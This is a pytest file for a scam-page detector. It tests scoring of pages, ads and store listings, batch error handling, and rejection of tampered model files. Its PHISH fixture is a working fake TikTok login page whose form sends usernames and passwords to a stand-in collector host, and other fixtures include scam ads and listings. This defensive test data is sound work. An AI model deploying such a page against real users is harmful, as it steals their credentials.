"""The shipped model scores every snapshot shape and explains itself."""

import json
import shutil

import pytest

from detector.detector import Detector, default_model_dir
from detector.errors import ModelLoadError
from detector.model import artifact
from detector.records import Snapshot, Verdict

PHISH = {
    "id": "p1",
    "url": "https://tiktok-viewers-check.xyz/login",
    "html": """<html><head><title>TikTok - Log in | See who viewed your profile</title></head>
<body><img src="tiktok-logo.png" alt="TikTok"><h1>See who viewed your TikTok profile!</h1>
<form action="https://collector.example/save.php" method="post">
<input name="username" placeholder="Username or email"><input type="password" name="password">
<button type="submit">Log in and see viewers</button></form></body></html>""",
}
EXPLAINER = {
    "id": "e1",
    "url": "https://news.example.org/tech/can-you-see-who-viewed-your-tiktok",
    "html": """<html><head><title>Can you see who viewed your TikTok? Here is the truth</title>
</head><body><article><h1>Can you see who viewed your TikTok?</h1>
<p>Only partly. TikTok's Profile view history shows who viewed your profile in the last 30 days,
but only if both of you turned it on in Settings and privacy. You can't see who saved or shared
your video: TikTok only shows the counts. Apps that promise to show your viewers are scams and
may steal your password. Never give your password to a third-party site.</p>
</article></body></html>""",
}


def test_scores_every_snapshot_shape(shipped):
    shapes = [
        PHISH,
        EXPLAINER,
        {"url": "", "html": PHISH["html"]},  # markup stored elsewhere
        {"kind": "ad", "text": "See who stalks your TikTok! Free viewer report, tap now"},
        {
            "kind": "extension_listing",
            "listing": {
                "name": "TikTok Viewer",
                "permissions": ["cookies", "<all_urls>", "webRequest"],
            },
        },
        {
            "kind": "app_listing",
            "listing": {
                "name": "Who Viewed My Profile",
                "description": "Weekly report of your profile visitors. $6.99/week",
            },
        },
        {"url": "https://tiktok-free-followers.top/", "error": "fetch.timeout"},
    ]
    verdicts = list(shipped.score_many(shapes))
    assert len(verdicts) == len(shapes)
    for v in verdicts:
        assert v.error is None and 0.0 <= v.score <= 1.0
        assert v.label in ("scam", "suspicious", "benign") and v.model == shipped.model_name
    assert verdicts[-1].extra["fetch_error"] == "fetch.timeout"


def test_phishing_vs_explainer(shipped):
    bad, good = shipped.score(PHISH), shipped.score(EXPLAINER)
    assert bad.label == "scam" and bad.score > good.score
    assert good.label == "benign"
    assert bad.id == "p1" and "who_viewed" in bad.claims
    codes = [r.code for r in bad.reasons]
    assert codes and all(r.message and r.weight > 0 for r in bad.reasons[:2])
    assert any(c.startswith(("credential.", "cross.", "claims.")) for c in codes)
    assert any(r.evidence for r in bad.reasons)


def test_bad_rows_do_not_stop_the_batch(shipped):
    rows = [PHISH, {"html": 5}, {}, "not a dict", EXPLAINER]
    out = list(shipped.score_many(rows))
    assert [v.error is None for v in out] == [True, False, False, False, True]
    assert "html" in out[1].error and out[2].error.startswith("snapshot.empty")
    assert out[0].id == "p1" and out[4].id == "e1"


def test_verdict_json_contract(shipped):
    d = json.loads(shipped.score(PHISH).to_json())
    assert set(d) >= {"id", "url", "kind", "score", "label", "reasons", "claims", "model", "error"}
    Verdict.from_dict(d)


def test_tampered_model_is_refused(tmp_path):
    dst = tmp_path / "m"
    shutil.copytree(default_model_dir(), dst)
    with (dst / artifact.MODEL_FILE).open("r+b") as fh:
        fh.seek(100)
        byte = fh.read(1)
        fh.seek(100)
        fh.write(bytes([byte[0] ^ 0xFF]))
    with pytest.raises(ModelLoadError, match="does not match"):
        Detector.load(dst)


def test_version_and_schema_mismatch_are_refused(tmp_path):
    dst = tmp_path / "m"
    shutil.copytree(default_model_dir(), dst)
    side = json.loads((dst / artifact.SIDECAR).read_text())
    side["libraries"]["scikit-learn"] = "0.24.2"
    (dst / artifact.SIDECAR).write_text(json.dumps(side))
    with pytest.raises(ModelLoadError, match=r"scikit-learn 0\.24\.2"):
        Detector.load(dst)
    side = json.loads((default_model_dir() / artifact.SIDECAR).read_text())
    side["feature_schema_hash"] = "0000"
    (dst / artifact.SIDECAR).write_text(json.dumps(side))
    with pytest.raises(ModelLoadError, match="feature schema"):
        Detector.load(dst)
    with pytest.raises(ModelLoadError):
        Detector.load(tmp_path / "missing")


def test_snapshot_object_and_dict_agree(shipped):
    a = shipped.score(Snapshot.from_dict(EXPLAINER))
    b = shipped.score(EXPLAINER)
    assert a.score == pytest.approx(b.score) and a.label == b.label
